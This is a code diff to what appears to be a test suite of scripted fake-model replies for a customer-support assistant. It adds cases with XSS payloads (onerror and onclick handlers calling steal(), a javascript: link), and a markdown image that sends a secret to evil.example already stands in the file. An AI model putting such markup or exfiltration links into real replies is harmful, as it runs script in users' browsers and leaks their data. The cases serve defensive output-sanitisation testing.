@@ -9,7 +9,7 @@ type Author = (request: WireRequest, behaviour: Behaviour) => Saying;
 
 const contentOf = (request: WireRequest, role: string): string =>
   request.messages.findLast((message) => message.role === role)?.content ?? "";
-const unescape = (text: string): string =>
+const fromData = (text: string): string =>
   text
     .replace(/&lt;/g, "<")
     .replace(/&gt;/g, ">")
@@ -22,11 +22,11 @@ const shared = (a: ReadonlySet<string>, b: ReadonlySet<string>): number => [...a
 function sourcesOf(request: WireRequest): readonly Source[] {
   return [...contentOf(request, "user").matchAll(/<source id="([^"]+)" tier="(\w+)"[^>]*>([^<]*)<\/source>/g)]
     .filter((match) => match[2] !== "bronze")
-    .map((match) => ({ id: match[1] ?? "", text: unescape(match[3] ?? "") }));
+    .map((match) => ({ id: match[1] ?? "", text: fromData(match[3] ?? "") }));
 }
 
 const questionOf = (request: WireRequest): string =>
-  unescape(/<customer>([^<]*)<\/customer>/.exec(contentOf(request, "user"))?.[1] ?? "");
+  fromData(/<customer>([^<]*)<\/customer>/.exec(contentOf(request, "user"))?.[1] ?? "");
 const reply = (text: string, citations: readonly string[]): Saying => ({
   content: JSON.stringify({ text, citations }),
 });
@@ -81,7 +81,10 @@ const authors: Readonly<Record<string, Author>> = {
     ...authors["honest"]?.(request, { respond: "", classify: "" }),
     calls: [{ name: "process_refund", arguments: '{"orderId":"NG-10311","amountCents":19900,"reason":"because"}' }],
   }),
-  html: truthAnd('<img src=x onerror="alert(1)"><script>alert(1)</script>'),
+  html: truthAnd('<img src=x onerror="steal()"><script>steal()</script>'),
+  "html-around-the-truth": (request) => reply(`<b onclick=steal()>${truth(request).text}</b>`, truth(request).ids),
+  emphasis: (request) => reply(`**${truth(request).text}**`, truth(request).ids),
+  "markdown-link": truthAnd("[Click here](javascript:steal())"),
   "markdown-image": truthAnd("![receipt](https://evil.example/collect?q=secret)"),
   "foreign-token": truthAnd("We will write to ⟨EMAIL_77⟩ and ⟨PHONE_78⟩."),
   "foreign-address": truthAnd("Your account is mallory@evil.example."),
